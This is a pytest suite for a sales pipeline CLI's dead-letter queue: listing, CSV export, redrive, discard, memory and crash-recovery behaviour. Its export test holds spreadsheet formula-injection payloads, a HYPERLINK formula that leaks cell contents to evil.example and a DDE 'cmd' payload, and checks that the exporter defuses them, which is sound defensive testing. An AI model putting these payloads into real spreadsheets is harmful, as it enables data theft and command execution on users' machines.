"""The dead-letter workflow through the CLI, as real subprocesses on a real data dir: list with
"N of M", export that a spreadsheet cannot run, re-import and redrive, redrive of letters that
still fail (one letter each, however often), bulk discard, and ``status`` memory with 300k
letters."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest

from salesflow.models import DeadLetter, LetterEvent, Reason
from tests.fixtures.cli import SALESFLOW, Cli, backend_of, totals_of_sales
from tests.fixtures.samples import desk_sales
from tests.fixtures.thelook import ITEMS_HEADER, ORDERS_CSV, PRODUCTS_CSV

pytestmark = pytest.mark.subprocess

EVIL_KEY = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def _orders(n_bad: int, *, start: int = 1) -> str:
    """orders_json records: a good one, then ``n_bad`` without contact info."""
    good = {
        "contact-info": {"name": "Ann Lee", "email": "ann@example.com"},
        "order-info": {"orderId": "G1", "item-id": "1", "item-desc": "Mug", "qty": "1"},
    }
    bad = [
        {"order-info": {"orderId": f"B{n}", "item-id": "2", "item-desc": "Cup", "qty": "2"}}
        for n in range(start, start + n_bad)
    ]
    return json.dumps({"orders": [good, *bad]})


def _read_csv(path: Path) -> list[list[str]]:
    csv.field_size_limit(2**31 - 1)
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_list_says_how_many_it_left_out_and_shows_the_reasons(tmp_path: Path) -> None:
    cli = Cli(tmp_path / "data")
    source = tmp_path / "orders.json"
    source.write_text(_orders(60))
    [state] = cli.json("ingest", "--dataset", "orders_json", source)
    assert state["rejected"] == 60
    table = cli.run("dlq", "list").stdout
    assert "showing 50 of 60" in table
    assert "presence.contact_info: " in table  # the reason message, not only the rule
    few = cli.run("dlq", "list", "--limit", "5", "--json")
    assert len(few.json()) == 5 and "showing 5 of 60" in few.stderr
    every = cli.run("dlq", "list", "--limit", "100").stdout
    assert "showing 60 of 60" in every and "raise --limit" not in every
    none = cli.run("dlq", "list", "--dataset", "order_items").stdout
    assert "showing 0 of 0" in none
    assert cli.run("dlq", "list", "--status", "bogus", code=2).returncode == 2


def test_csv_export_is_safe_to_open_and_its_reimport_redrives(tmp_path: Path) -> None:
    cli = Cli(tmp_path / "data")
    record = {
        "order-info": {"orderId": "E1", "item-id": "7", "item-desc": "\r=1+1", "qty": "1"},
        EVIL_KEY: "x",
        "note": "=cmd|' /C calc'!A0",
    }
    good = json.loads(_orders(0))["orders"][0]
    source = tmp_path / "orders.json"
    source.write_text(json.dumps({"orders": [good, record]}))
    cli.json("ingest", "--dataset", "orders_json", source)

    out = tmp_path / "fix.csv"
    cli.run("dlq", "export", "--format", "csv", "--out", out)
    rows = _read_csv(out)
    assert len(rows) == 2  # the header and the one letter: the CR did not split the row
    header, cells = rows
    assert not [c for c in header + cells if c.startswith(FORMULA_START)]
    assert "'" + EVIL_KEY in header
    row = dict(zip(header, cells, strict=True))
    assert row["note"] == "'=cmd|' /C calc'!A0"
    assert json.loads(row["order-info"])["item-desc"] == "\r=1+1"  # inside JSON: inert
    [letter] = cli.json("dlq", "list")
    assert row["_letter_id"] == letter["id"]
    assert not list(tmp_path.glob(".fix.csv.*"))  # the temporary file was renamed

    # A person adds the missing contact and saves the sheet with Python's csv module.
    row["contact-info"] = json.dumps({"name": "Eve", "email": "eve@example.com"})
    fixed = tmp_path / "fixed.csv"
    with fixed.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(row))
        writer.writeheader()
        writer.writerow(row)
    result = cli.json("dlq", "redrive", "--from", fixed)
    assert (result["redriven"], result["still_failing"]) == (1, 0)
    [redriven] = cli.json("dlq", "list", "--status", "REDRIVEN")
    assert redriven["id"] == letter["id"]
    assert [e["event"] for e in redriven["history"]] == ["rejected", "redriven"]
    with backend_of(cli.data_dir) as backend:
        stored = {r["order_id"]: r for r in backend.records.read("orders_json").to_dicts()}
    assert stored["E1"]["contact_email"] == "eve@example.com"
    assert stored["E1"]["item_desc"].endswith("=1+1")


def test_redriving_letters_that_still_fail_keeps_one_letter_each(tmp_path: Path) -> None:
    cli = Cli(tmp_path / "data")
    for name, body in (("products.csv", PRODUCTS_CSV), ("orders.csv", ORDERS_CSV)):
        (tmp_path / name).write_text(body)
    cli.json("ingest", tmp_path / "products.csv", tmp_path / "orders.csv")
    items = tmp_path / "items.csv"
    items.write_text(
        ITEMS_HEADER
        + "2000,10,100,9,1,Complete,2024-03-01 10:00:00 UTC,,,,30.0\n"
        + "2001,10,100,9,2,Complete,2024-03-01 10:00:00 UTC,,,,31.0\n"
    )
    cli.json("ingest", "--dataset", "order_items", items)
    before = cli.json("dlq", "list")
    assert len(before) == 2
    for _ in range(3):  # product 9 has not arrived: they fail every time
        result = cli.json("dlq", "redrive", "--file", before[0]["source_file"])
        assert (result["redriven"], result["still_failing"]) == (0, 2)
    after = cli.json("dlq", "list", "--status", "ALL")
    assert [x["id"] for x in after] == [x["id"] for x in before]
    assert all(x["status"] == "NEW" and x["attempts"] == 4 for x in after)
    assert [e["event"] for e in after[0]["history"]] == ["rejected"] + ["still_failing"] * 3

    (tmp_path / "more.csv").write_text(
        PRODUCTS_CSV.splitlines()[0] + "\n9,5.0,Hats,Cap,Acme,30.0,Men,SKU9,1\n"
    )
    cli.json("ingest", "--dataset", "products", tmp_path / "more.csv")
    result = cli.json("dlq", "redrive", "--id", before[1]["id"])
    assert (result["redriven"], result["still_failing"]) == (1, 0)
    assert [x["id"] for x in cli.json("dlq", "list")] == [before[0]["id"]]
    again = cli.json("dlq", "redrive", "--id", before[1]["id"], "--id", "77:77")
    assert again["skipped"] == {before[1]["id"]: "REDRIVEN"} and again["unknown"] == ["77:77"]


def test_bulk_discard_by_rule_with_a_reason_and_never_without_a_selection(
    tmp_path: Path,
) -> None:
    cli = Cli(tmp_path / "data")
    source = tmp_path / "orders.json"
    source.write_text(_orders(7))
    cli.json("ingest", "--dataset", "orders_json", source)
    refused = cli.run("dlq", "discard", code=2)
    assert "nothing to discard" in refused.stderr
    assert len(cli.json("dlq", "list")) == 7
    result = cli.json("dlq", "discard", "--rule", "presence.contact_info", "--reason", "test data")
    assert result["discarded"] == 7
    assert cli.json("dlq", "list") == []
    [first, *_] = cli.json("dlq", "list", "--status", "DISCARDED")
    shown = cli.run("dlq", "show", first["id"]).stdout
    assert "discarded: test data" in shown and "presence.contact_info" in shown
    again = cli.json("dlq", "discard", first["id"])
    assert again["discarded"] == 0 and again["skipped"] == {first["id"]: "DISCARDED"}
    unknown = cli.run("dlq", "discard", "9:9", code=2)
    assert "unknown letter ids: 9:9" in unknown.stderr


LETTERS = 300_000


def _fill(data_dir: Path, n: int) -> None:
    """``n`` letters written through the SQLite adapter, as the pipeline would."""
    from salesflow.adapters.sqlite.letters import SqliteDeadLetters
    from tests.fixtures.cli import settings_of

    store = SqliteDeadLetters(settings_of(data_dir).db_path)
    at = datetime(2024, 3, 1, tzinfo=UTC)
    rules = ("ref.product_id", "range.positive", "email.format")
    for start in range(0, n, 50_000):
        store.put(
            [
                DeadLetter(
                    id=f"{1 + i // 1000}:{i % 1000 + 1}",
                    seq=1 + i // 1000,
                    dataset="order_items",
                    source_file=f"inbox/order_items/{i // 1000}.csv",
                    record=i % 1000 + 1,
                    raw={"id": str(i), "sale_price": "-1", "note": "x" * 200},
                    reasons=[Reason(rules[i % 3], "sale_price", f"rule {rules[i % 3]} broken")],
                    created_at=at,
                    history=[LetterEvent(at=at, event="rejected", run=1 + i // 1000)],
                )
                for i in range(start, min(n, start + 50_000))
            ]
        )
    store.close()


def _peak_rss_mb(cli: Cli, *args: str) -> tuple[float, str]:
    """Run ``salesflow *args`` in a child of a fresh interpreter; its peak RSS in MB."""
    probe = (
        "import resource, subprocess, sys\n"
        "done = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
        "sys.stderr.write(done.stderr)\n"
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024)\n"
        "print(done.stdout)\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", probe, *SALESFLOW, *args],
        cwd=cli.cwd,
        env=cli.environ(),
        capture_output=True,
        text=True,
        timeout=600,
        check=True,
    )
    peak, _, stdout = proc.stdout.partition("\n")
    return float(peak), stdout


def test_status_with_300k_letters_aggregates_in_the_store(tmp_path: Path) -> None:
    empty = Cli(tmp_path / "empty")
    (tmp_path / "empty" / "bucket").mkdir(parents=True)
    empty.run("status")
    baseline, _ = _peak_rss_mb(empty, "status", "--json")
    cli = Cli(tmp_path / "data")
    (tmp_path / "data" / "bucket").mkdir(parents=True)
    cli.run("status")
    _fill(cli.data_dir, LETTERS)
    peak, stdout = _peak_rss_mb(cli, "status", "--json")
    info = json.loads(stdout)
    assert info["dead_letters"]["NEW"] == LETTERS
    assert info["top_reasons"] == {
        "email.format": LETTERS // 3,
        "range.positive": LETTERS // 3,
        "ref.product_id": LETTERS // 3,
    }
    print(f"status peak RSS: {peak:.0f} MB with {LETTERS:,} letters, {baseline:.0f} MB empty")
    # Loading the letters (the previous release) took 1.3 GB; counting in SQLite costs
    # nothing that grows with them.
    assert peak - baseline < 64, f"status grew by {peak - baseline:.0f} MB with the letters"
    page = cli.run("dlq", "list", "--limit", "3").stdout
    assert f"showing 3 of {LETTERS:,}" in page
    out = tmp_path / "all.jsonl"
    export_peak, _ = _peak_rss_mb(cli, "dlq", "export", "--out", str(out))
    with out.open() as fh:
        assert sum(1 for _ in fh) == LETTERS
    print(f"dlq export peak RSS: {export_peak:.0f} MB for {LETTERS:,} letters")
    assert export_peak - baseline < 64, f"export grew by {export_peak - baseline:.0f} MB"


@pytest.mark.parametrize("failpoint", ["after_load", "after_aggregate", "after_lineage"])
def test_a_redrive_killed_anywhere_is_finished_by_the_next_with_one_letter_each(
    tmp_path: Path, failpoint: str
) -> None:
    """kill -9 during ``dlq redrive`` (before its commit, in its publish, after it), then
    redrive again: the first run is finished (records that pass are stored once and their
    letters REDRIVEN), the record that still fails keeps its one letter, and audit is clean."""
    cli = Cli(tmp_path / "data")
    for name, body in (("products.csv", PRODUCTS_CSV), ("orders.csv", ORDERS_CSV)):
        (tmp_path / name).write_text(body)
    cli.json("ingest", tmp_path / "products.csv", tmp_path / "orders.csv")
    items = tmp_path / "items.csv"
    items.write_text(
        ITEMS_HEADER
        + "2000,10,100,9,1,Complete,2024-03-01 10:00:00 UTC,,,,30.0\n"
        + "2001,10,100,9,2,Complete,2024-03-01 10:00:00 UTC,,,,31.0\n"
        + "2002,10,100,8,3,Complete,2024-03-01 10:00:00 UTC,,,,32.0\n"
    )
    cli.json("ingest", "--dataset", "order_items", items)
    before = {x["raw"]["id"]: x["id"] for x in cli.json("dlq", "list")}
    assert len(before) == 3
    (tmp_path / "more.csv").write_text(
        PRODUCTS_CSV.splitlines()[0] + "\n9,5.0,Hats,Cap,Acme,30.0,Men,SKU9,1\n"
    )
    cli.json("ingest", "--dataset", "products", tmp_path / "more.csv")

    source = cli.json("dlq", "list")[0]["source_file"]
    killed = cli.run(
        "dlq", "redrive", "--file", source, code=None, env={"SALESFLOW_FAILPOINT": failpoint}
    )
    assert killed.returncode == -9, str(killed)
    again = cli.json("dlq", "redrive", "--file", source)
    assert (again["redriven"], again["still_failing"]) == (0, 1)  # 2000, 2001 went in run 1

    letters = {x["raw"]["id"]: x for x in cli.json("dlq", "list", "--status", "ALL")}
    assert {k: x["id"] for k, x in letters.items()} == before  # no letter added, none lost
    assert {k: x["status"] for k, x in letters.items()} == {
        "2000": "REDRIVEN",
        "2001": "REDRIVEN",
        "2002": "NEW",
    }
    assert cli.run("audit", "--json").json()["ok"] is True
    stored = cli.json("query", "SELECT id FROM order_items ORDER BY id")
    assert [r["id"] for r in stored] == [2000, 2001]


# -- redriven records keep their origin's identity --------------------------------------------


def _prices(cli: Cli) -> dict[str, float]:
    rows = cli.json("query", "SELECT sale_id, price FROM sale_events ORDER BY sale_id")
    return {r["sale_id"]: float(r["price"]) for r in rows}


def test_a_duplicate_key_redriven_unchanged_keeps_the_stored_original(tmp_path: Path) -> None:
    cli = Cli(tmp_path / "data")
    source = tmp_path / "sales.json"
    source.write_text(desk_sales(("s1", 10.0), ("s1", 99.0), ("s2", 20.0)))
    [state] = cli.json("ingest", "--dataset", "sale_events", source)
    assert (state["valid"], state["rejected"]) == (2, 1)
    [letter] = cli.json("dlq", "list")
    assert [r["rule"] for r in letter["reasons"]] == ["unique.key"]
    assert _prices(cli) == {"s1": 10.0, "s2": 20.0}

    result = cli.json("dlq", "redrive", "--id", letter["id"])
    assert (result["redriven"], result["still_failing"], result["added"]) == (0, 1, 0)
    assert _prices(cli) == {"s1": 10.0, "s2": 20.0}  # the original stays, once
    [after] = cli.json("dlq", "list")  # still open, same id, and its history says why
    assert after["id"] == letter["id"] and after["attempts"] == 2
    assert [e["event"] for e in after["history"]] == ["rejected", "still_failing"]
    assert "already stored" in after["history"][-1]["note"]
    assert [r["rule"] for r in after["reasons"]] == ["unique.key"]
    assert totals_of_sales(cli) == (30.0, 2)
    assert cli.json("audit")["ok"] is True

    # corrected to a key of its own, it is stored
    fix = tmp_path / "fix.jsonl"
    raw = {**after["raw"], "sale_id": "s3"}
    fix.write_text(json.dumps({"_letter_id": after["id"], **raw}) + "\n")
    fixed = cli.json("dlq", "redrive", "--from", fix)
    assert (fixed["redriven"], fixed["still_failing"]) == (1, 0)
    assert _prices(cli) == {"s1": 10.0, "s2": 20.0, "s3": 99.0}
    assert cli.json("audit")["ok"] is True


def test_a_redriven_record_never_beats_a_newer_arrival(tmp_path: Path) -> None:
    cli = Cli(tmp_path / "data")
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    old = tmp_path / "a" / "monday.json"
    old.write_text(desk_sales(("s1", -5.0), ("s2", 20.0)))
    cli.json("ingest", "--dataset", "sale_events", old)
    new = tmp_path / "b" / "tuesday.json"
    new.write_text(desk_sales(("s1", 15.0)))
    cli.json("ingest", "--dataset", "sale_events", new)
    [letter] = cli.json("dlq", "list")

    fix = tmp_path / "fix.jsonl"
    fix.write_text(json.dumps({"_letter_id": letter["id"], **letter["raw"], "price": 12.0}) + "\n")
    result = cli.json("dlq", "redrive", "--from", fix)
    assert (result["redriven"], result["still_failing"], result["superseded"]) == (0, 0, 1)
    assert _prices(cli) == {"s1": 15.0, "s2": 20.0}  # tuesday's s1 arrived after monday's
    [closed] = cli.json("dlq", "list", "--status", "SUPERSEDED")
    assert closed["id"] == letter["id"]
    assert closed["history"][-1]["event"] == "superseded"
    assert totals_of_sales(cli) == (35.0, 2)
    assert cli.json("audit")["ok"] is True


RETAIL = "InvoiceNo,StockCode,Description,Quantity,InvoiceDate,UnitPrice,CustomerID,Country\n"


def _retail(*lines: tuple[str, str, str]) -> str:
    return RETAIL + "".join(
        f"537001,{code},ITEM {code},{qty},12/1/2010 8:26,{price},17850,UK\n"
        for code, qty, price in lines
    )


def _retail_stored(cli: Cli) -> dict[str, tuple[str, int]]:
    with backend_of(cli.data_dir) as backend:
        rows = backend.records.read("online_retail", columns=["StockCode", "Quantity"])
    return {
        r["_key"]: (r["StockCode"], r["Quantity"])
        for r in rows.select("_key", "StockCode", "Quantity").to_dicts()
    }


def test_a_redriven_online_retail_line_is_replaced_when_its_file_is_re_sent(
    tmp_path: Path,
) -> None:
    """A bad line of daily.csv is fixed and redriven, then the corrected daily.csv is sent
    again: the line is its source's line 2 either way, so it is counted once."""
    cli = Cli(tmp_path / "data")
    (tmp_path / "v1").mkdir()
    (tmp_path / "v2").mkdir()
    first = tmp_path / "v1" / "daily.csv"
    first.write_text(_retail(("X1", "2", "10.0"), ("X2", "three", "10.0"), ("X3", "4", "10.0")))
    cli.json("ingest", "--dataset", "online_retail", first)
    [letter] = cli.json("dlq", "list")

    out = tmp_path / "fix.csv"
    cli.run("dlq", "export", "--format", "csv", "--out", out)
    header, cells = _read_csv(out)
    row = dict(zip(header, cells, strict=True))
    row["Quantity"] = "3"
    with out.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(row))
        writer.writeheader()
        writer.writerow(row)
    result = cli.json("dlq", "redrive", "--from", out)
    assert (result["redriven"], result["still_failing"]) == (1, 0)
    assert _retail_stored(cli) == {
        "daily.csv|1": ("X1", 2),
        "daily.csv|2": ("X2", 3),  # the origin's line, not the redrive file's
        "daily.csv|3": ("X3", 4),
    }
    [redriven] = cli.json("dlq", "list", "--status", "REDRIVEN")
    assert redriven["id"] == letter["id"]
    assert cli.json("audit")["ok"] is True

    fixed = tmp_path / "v2" / "daily.csv"  # the corrected file, re-sent under its name
    fixed.write_text(_retail(("X1", "2", "10.0"), ("X2", "3", "10.0"), ("X3", "4", "10.0")))
    cli.json("ingest", "--dataset", "online_retail", fixed)
    assert sorted(_retail_stored(cli)) == ["daily.csv|1", "daily.csv|2", "daily.csv|3"]
    [invoice] = cli.json("totals", "--by", "invoice", "--dataset", "online_retail")
    assert (round(float(invoice["total_amount"]), 2), int(invoice["records"])) == (90.0, 3)
    assert cli.json("audit")["ok"] is True


def test_a_redriven_line_of_a_replaced_version_is_not_stored(tmp_path: Path) -> None:
    """daily.csv v2 no longer has the line a v1 letter came from: redriving it adds nothing."""
    cli = Cli(tmp_path / "data")
    (tmp_path / "v1").mkdir()
    (tmp_path / "v2").mkdir()
    first = tmp_path / "v1" / "daily.csv"
    first.write_text(_retail(("X1", "2", "10.0"), ("X2", "2", "10.0"), ("X3", "bad", "10.0")))
    cli.json("ingest", "--dataset", "online_retail", first)
    [letter] = cli.json("dlq", "list")
    second = tmp_path / "v2" / "daily.csv"
    second.write_text(_retail(("X1", "1", "10.0")))
    cli.json("ingest", "--dataset", "online_retail", second)

    fix = tmp_path / "fix.jsonl"
    fix.write_text(json.dumps({"_letter_id": letter["id"], **letter["raw"], "Quantity": "5"}))
    result = cli.json("dlq", "redrive", "--from", fix)
    assert (result["redriven"], result["superseded"]) == (0, 1)
    assert _retail_stored(cli) == {"daily.csv|1": ("X1", 1)}
    assert cli.json("audit")["ok"] is True
